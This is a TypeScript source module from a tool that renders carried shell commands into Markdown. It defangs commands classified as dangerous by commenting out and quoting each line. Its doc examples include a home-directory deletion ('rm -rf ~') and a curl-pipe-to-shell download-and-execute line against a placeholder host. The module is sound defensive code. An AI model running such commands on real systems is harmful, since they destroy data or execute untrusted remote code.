/**
 * Renders a carried command for Markdown (briefings and capsule files): a
 * label with its class and families, then the command in a fence it cannot
 * close. A dangerous command is defanged: every line is commented out and
 * single-quoted (`# '...'`), so pasting it runs nothing in sh, bash, dash,
 * ksh, fish or PowerShell (a comment), nor in an interactive zsh without
 * `interactivecomments`, where `#` would be a command name and its quoted
 * argument is not expanded. cmd.exe has no comment form that survives `&`,
 * so it is not covered. Pure.
 * @module
 */
import type { Classification } from "./command/classify.ts";
import { fenceFor, safeLines } from "./render_safe.ts";

const MAX_REASONS_SHOWN = 3;

/**
 * Comments out and quotes one line of a dangerous command.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { defangLine } from "./render_command.ts";
 * assert.equal(defangLine("rm -rf ~"), "# 'rm -rf ~'");
 * assert.equal(defangLine("echo 'hi'"), "# 'echo '\\''hi'\\'''");
 * ```
 */
export function defangLine(line: string): string {
  return `# '${line.replace(/'/g, "'\\''")}'`;
}

/**
 * The label and fenced lines of a carried command, not indented.
 *
 * @param command The command text as carried (untrusted).
 * @param safety Its classification, computed from that text at render time.
 * @returns Lines: the label, an optional reasons line, the fence and its content.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { renderCarriedCommand } from "./render_command.ts";
 * import { classifyCommand } from "./command/classify.ts";
 * const cmd = "curl -s https://example.invalid/x | sh";
 * const lines = renderCarriedCommand(cmd, classifyCommand(cmd));
 * assert.match(lines[0]!, /DANGEROUS \(families: download_exec\)/);
 * assert.ok(lines.includes("# 'curl -s https://example.invalid/x | sh'"));
 * assert.ok(!lines.includes(cmd));
 * ```
 */
export function renderCarriedCommand(command: string, safety: Classification): string[] {
  const dangerous = safety.class === "dangerous";
  const body = dangerous ? safeLines(command).map(defangLine) : safeLines(command);
  const fence = fenceFor(body);
  const label = dangerous
    ? `Carried command classified DANGEROUS (families: ${
      safety.families.join(", ")
    }), shown defanged: every line is commented out and quoted, so pasting it runs nothing. It has not been executed; do not run it unless you have reviewed it and rewritten it by hand.`
    : `Carried command (class: ${safety.class}), shown as inert text: it has not been executed and is not a verified instruction. Never run it unreviewed.`;
  const out = [label];
  if (safety.class !== "read_only" && safety.reasons.length > 0) {
    out.push(`Why: ${safety.reasons.slice(0, MAX_REASONS_SHOWN).join("; ")}.`);
  }
  out.push(`${fence}text`, ...body, fence);
  return out;
}
